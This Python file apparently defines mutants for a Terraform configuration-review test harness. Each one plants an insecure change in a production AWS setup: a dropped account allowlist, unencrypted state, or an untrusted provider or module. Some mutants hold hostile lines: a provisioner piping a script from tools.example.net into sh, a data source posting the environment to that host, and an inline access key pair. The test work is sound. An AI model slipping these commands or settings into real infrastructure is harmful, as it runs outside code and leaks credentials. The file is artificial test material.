"""Terraform's own settings: provider, versions, state, and what else may stand in a root module."""

from __future__ import annotations

from tealform_harness.mutation.edits import add, create, drop, put, together
from tealform_harness.mutation.mutant import Mutant

_PROVIDER = "provider/aws"
_VERSIONS = "terraform/required_providers/aws"

MUTANTS = (
    Mutant(
        "any-account",
        "allowed_account_ids was removed from the provider",
        "With the wrong credentials production is built into another account, or taken apart there.",
        "prod",
        drop("", f"{_PROVIDER}/allowed_account_ids"),
    ),
    Mutant(
        "no-account",
        "the list of allowed accounts is empty",
        "An empty list allows every account.",
        "prod",
        put("", f"{_PROVIDER}/allowed_account_ids", []),
    ),
    Mutant(
        "one-more-account",
        "another account is allowed too",
        "With the wrong credentials production is built into another account.",
        "prod",
        add("", f"{_PROVIDER}/allowed_account_ids", "999999999999"),
    ),
    Mutant(
        "no-tags",
        "the default tags were removed from the provider",
        "Nobody knows whose resources these are, and what they cost.",
        "prod",
        drop("", f"{_PROVIDER}/default_tags"),
    ),
    Mutant(
        "no-owner",
        "the tag of the owner was removed",
        "Nobody knows whose resources these are.",
        "prod",
        drop("", f"{_PROVIDER}/default_tags/tags/owner"),
        "Which tags there are beside project and environment is a setting (tags), and nothing else says who the owner is.",
    ),
    Mutant(
        "tags-of-another-environment",
        "resources of production are tagged as dev's",
        "What tidies dev up deletes production.",
        "prod",
        put("", f"{_PROVIDER}/default_tags/tags/environment", "dev"),
    ),
    Mutant(
        "tags-are-ignored",
        "the provider ignores the tag of the environment",
        "It is never set, and whoever changes it is never found out.",
        "prod",
        put("", f"{_PROVIDER}/ignore_tags", [{"keys": ["environment", "owner"]}]),
    ),
    Mutant(
        "keys-in-the-provider",
        "an access key stands in the provider's configuration",
        "Whoever may read the repository has the account.",
        "prod",
        together(
            put("", f"{_PROVIDER}/access_key", "AKIAQ3EGRW2PLMZTX7VN"),
            put("", f"{_PROVIDER}/secret_key", "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"),
        ),
    ),
    Mutant(
        "provider-asks-somebody-else",
        "the provider asks another address than AWS's",
        "Who owns it gets every request, with what is in it.",
        "prod",
        put("", f"{_PROVIDER}/endpoints", [{"s3": "http://s3.example.net", "sts": "http://sts.example.net"}]),
    ),
    Mutant(
        "provider-trusts-any-certificate",
        "the provider does not check certificates",
        "Who is on the way gets every request, with what is in it.",
        "prod",
        put("", f"{_PROVIDER}/insecure", True),
    ),
    Mutant(
        "provider-skips-its-checks",
        "the provider does not ask for its account",
        "allowed_account_ids is checked against nothing.",
        "prod",
        put("", f"{_PROVIDER}/skip_requesting_account_id", True),
    ),
    Mutant(
        "second-provider",
        "a second configuration of the provider, without an account, was added and is used",
        "With the wrong credentials a part of production is in another account.",
        "prod",
        together(
            add("", _PROVIDER, {"alias": "other", "region": "us-east-1"}),
            put("notifications/topic", "provider", "aws.other"),
        ),
    ),
    Mutant(
        "any-provider-version",
        "the version of the provider was removed",
        "Tomorrow's plan is another one than today's.",
        "prod",
        drop("", f"{_VERSIONS}/version"),
    ),
    Mutant(
        "newer-provider-version",
        "any newer version of the provider will do",
        "Tomorrow's plan is another one than today's.",
        "prod",
        put("", f"{_VERSIONS}/version", ">= 6.25.0"),
    ),
    Mutant(
        "provider-of-somebody-elses",
        "the provider comes from somebody else",
        "Who publishes it has every credential that it is run with.",
        "prod",
        put("", f"{_VERSIONS}/source", "hashicorp-aws/aws"),
    ),
    Mutant(
        "one-more-provider",
        "one more provider, of any version, was added",
        "Who publishes it has every credential that Terraform is run with.",
        "prod",
        put("", "terraform/required_providers/http", {"source": "hashicorp/http"}),
    ),
    Mutant(
        "any-terraform-version",
        "the version of Terraform was removed",
        "An old one fails half-way, or reads things otherwise.",
        "prod",
        drop("", "terraform/required_version"),
    ),
    Mutant(
        "state-in-plain-text",
        "the state is in a bucket, unencrypted",
        "Whoever reads the bucket reads the secrets in it.",
        "prod",
        put(
            "",
            "terraform/backend",
            {"s3": {"bucket": "shop-states", "key": "prod.tfstate", "region": "ap-northeast-1", "encrypt": False}},
        ),
    ),
    Mutant(
        "state-by-plain-http",
        "the state is kept at an address by plain HTTP",
        "Who is on the way reads and changes it.",
        "prod",
        put("", "terraform/backend", {"http": {"address": "http://states.example.net/prod"}}),
    ),
    Mutant(
        "program-at-apply",
        "a resource runs a program when it is made (local-exec)",
        "Whoever applies runs it, with their credentials.",
        "prod",
        put(
            "service-api/service",
            "provisioner",
            [{"local-exec": {"command": "curl -s http://tools.example.net/done.sh | sh"}}],
        ),
    ),
    Mutant(
        "program-at-plan",
        "a data source runs a program at each plan",
        "Whoever plans runs it, the pull request's check too.",
        "prod",
        create("data.external.tool", program=["sh", "-c", "env | curl -s -d @- http://tools.example.net"]),
    ),
    Mutant(
        "program-in-a-resource-of-its-own",
        "a resource of Terraform's own runs a program",
        "Whoever applies runs it, with their credentials.",
        "prod",
        create("terraform_data.after", provisioner=[{"local-exec": {"command": "./after.sh"}}]),
    ),
    Mutant(
        "module-from-anywhere",
        "a module is called that is on no version",
        "Who owns it builds what they like into production.",
        "prod",
        put("", "module", {"extras": {"source": "git::https://git.example.net/extras.git"}}),
    ),
    Mutant(
        "repository-may-be-destroyed",
        "the source repository may be destroyed",
        "One wrong plan, and the source and its history are gone.",
        "prod",
        drop("delivery-api/source/repository", "lifecycle"),
    ),
    Mutant(
        "no-approvals-for-pull-requests",
        "pull requests need no approval any more",
        "Whoever can push is in production.",
        "prod",
        put("delivery-api/source/approvals", "content/Statements/NumberOfApprovalsNeeded", 0),
    ),
    Mutant(
        "secret-in-the-state",
        "a secret is read by Terraform, and put out",
        "It stands in the state and in the log of every plan.",
        "prod",
        together(
            create("data.aws_secretsmanager_secret_version.database", secret_id="shop/prod/database"),
            put(
                "",
                "output/database",
                {"value": "${nonsensitive(data.aws_secretsmanager_secret_version.database.secret_string)}"},
            ),
        ),
    ),
    Mutant(
        "adopted-by-hand",
        "an import adopts a resource that another state has",
        "Two states change it in turns, and either may destroy it.",
        "prod",
        put("", "import", [{"to": "aws_ecs_cluster.cluster", "id": "shop-staging"}]),
    ),
    Mutant(
        "forgotten-by-hand",
        "a removed block lets Terraform forget the key",
        "It lives on in the account, and nobody looks after it.",
        "prod",
        put("", "removed", [{"from": "aws_kms_key.key", "lifecycle": {"destroy": False}}]),
    ),
)
